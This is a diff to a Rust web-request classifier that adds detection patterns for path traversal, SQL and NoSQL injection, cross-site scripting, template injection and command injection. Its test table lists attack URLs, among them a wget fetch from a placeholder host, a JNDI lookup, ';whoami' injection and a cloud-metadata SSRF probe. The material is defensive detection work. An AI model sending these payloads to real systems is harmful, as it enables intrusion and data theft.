@@ -167,7 +167,10 @@ const SENSITIVE: &[&[u8]] = &[
 /// `../` walks, also in disguise.
 fn walk(text: &[u8]) -> Behaviours {
     let steps = count(text, b"../") + count(text, b"..\\") + count(text, b"..;/");
-    let overlong = has(text, b"..%c0%af") || has(text, b"..%c1%9c") || has(text, b"%2e%2e%2f");
+    let overlong = has(text, b"....//")
+        || has(text, b"..%c0%af")
+        || has(text, b"..%c1%9c")
+        || has(text, b"%2e%2e%2f");
     let asks = SENSITIVE.iter().any(|path| has(text, path));
     if steps >= 3
         || overlong
@@ -187,7 +190,6 @@ fn injection(text: &[u8]) -> Behaviours {
     let has = |needle: &[u8]| has(&text, needle);
     let words = has(b"union select")
         || has(b"union all select")
-        || has(b"information_schema")
         || has(b"' or '")
         || has(b"'or'")
         || has(b"' or 1")
@@ -197,6 +199,18 @@ fn injection(text: &[u8]) -> Behaviours {
         || has(b"' and 1=")
         || has(b" and 1=1")
         || has(b"or 'x'='x")
+        || has(b"or 'a'='a")
+        || has(b"or ''='")
+        || has(b"' having ")
+        || has(b"' group by ")
+        || has(b"' order by ")
+        || has(b"procedure analyse")
+        || has(b"dbms_pipe")
+        || has(b"[$ne]")
+        || has(b"[$gt]")
+        || has(b"[$regex]")
+        || has(b"sysobjects")
+        || has(b"information_schema")
         || has(b"order by 1--")
         || has(b"; drop table")
         || has(b";drop table")
@@ -234,6 +248,17 @@ fn script(text: &[u8]) -> Behaviours {
         || has(b"onmouseover=")
         || has(b"alert(")
         || has(b"string.fromcharcode")
+        || has(b"onfocus=")
+        || has(b"onclick=")
+        || has(b"ontoggle=")
+        || has(b"onmouseenter=")
+        || has(b"<body ")
+        || has(b"<object")
+        || has(b"<embed")
+        || has(b"prompt(")
+        || has(b"confirm(")
+        || has(b"document.location")
+        || has(b"window.location=")
         || (has(b"<img") && has(b"src="));
     if tag { Behaviours::CROSS_SITE_SCRIPTING } else { Behaviours::NONE }
 }
@@ -254,7 +279,14 @@ fn code(text: &[u8]) -> Behaviours {
         || has(b"ognlcontext")
         || has(b"class.module.classloader")
         || has(b"__import__(")
-        || has(b"getruntime(");
+        || has(b"getruntime(")
+        || has(b"%{(#")
+        || has(b"%{#context")
+        || has(b"{{7*7}}")
+        || has(b"${7*7}")
+        || has(b"__class__")
+        || has(b"<!entity")
+        || has(b"script:javascript:");
     let php = has(b"<?php")
         || has(b"base64_decode(")
         || has(b"shell_exec(")
@@ -264,6 +296,9 @@ fn code(text: &[u8]) -> Behaviours {
         || has(b"php://filter")
         || has(b"auto_prepend_file")
         || has(b"call_user_func_array")
+        || has(b"allow_url_include")
+        || has(b"invokefunction")
+        || has(b"expect://")
         || has(b"system(")
         || has(b"eval(");
     let shell = has(b"/bin/sh")
@@ -290,6 +325,14 @@ fn code(text: &[u8]) -> Behaviours {
         || has(b"|cat ")
         || has(b"$(cat ")
         || has(b"`id`")
+        || has(b"|id|")
+        || has(b"|whoami")
+        || has(b";whoami")
+        || has(b"&whoami")
+        || has(b"; ls ")
+        || has(b";ls ")
+        || has(b"169.254.169.254")
+        || has(b"gopher://")
         || has(b"$(id)");
     let remote = (has(b"=http://") || has(b"=https://") || has(b"=ftp://"))
         && (has(b".txt?") || has(b".txt%00") || has(b"cmd=") || has(b"shell"));
@@ -395,6 +438,13 @@ mod tests {
             ("/x?a=${jndi:ldap://198.51.100.1/a}", Behaviours::REMOTE_CODE),
             ("/ping?host=1;wget+http://198.51.100.1/x", Behaviours::REMOTE_CODE),
             ("/../../../../etc/passwd", Behaviours::PATH_TRAVERSAL),
+            ("/a?f=....//....//conf", Behaviours::PATH_TRAVERSAL),
+            ("/a?user[$ne]=x&pass[$ne]=x", Behaviours::SQL_INJECTION),
+            ("/a?id=1'+ORDER+BY+4--+-", Behaviours::SQL_INJECTION),
+            ("/a?q=%22%3E%3Cinput+onfocus%3Dprompt(1)%3E", Behaviours::CROSS_SITE_SCRIPTING),
+            ("/a?u=http://169.254.169.254/latest", Behaviours::REMOTE_CODE),
+            ("/a?name={{7*7}}", Behaviours::REMOTE_CODE),
+            ("/a?host=127.0.0.1;whoami", Behaviours::REMOTE_CODE),
             ("/..%2f..%2f..%2fsecret", Behaviours::PATH_TRAVERSAL),
             ("/phpMyAdmin/index.php", Behaviours::WEB_SCAN),
         ] {
